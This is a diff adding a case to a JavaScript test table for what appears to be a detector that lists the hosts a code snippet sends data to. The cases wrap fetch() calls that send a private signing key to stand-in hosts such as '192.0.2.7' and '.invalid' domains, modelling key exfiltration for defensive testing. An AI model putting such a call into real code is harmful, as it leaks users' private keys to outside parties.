@@ -90,6 +90,7 @@ it.each([
   [`fetch('https://192.0.2.7/' + key)`, ['192.0.2.7']],
   [`const base = 'https://b.example.invalid/' + message; fetch(base + '/send', { body: key })`, ['b.example.invalid']],
   [`fetch('https://192.0.2.7/', { body: key })`, ['192.0.2.7']],
+  [`fetch('https://a.invalid/' + message, { body: key, b: '//b.invalid', c: '//c.invalid', d: '//d.invalid' })`, ['*']],
   [`fetch(address, { body: key, headers: { 'x-file': 'index.js', accept: 'application/vnd.api+json' } })`, []],
 ])('says which hosts a call is given as text: %s', async (send, expected) => {
   const text = `exports.sign = (key, message, address) => { require('@noble/secp256k1').sign(message, key); ${send}; };`;
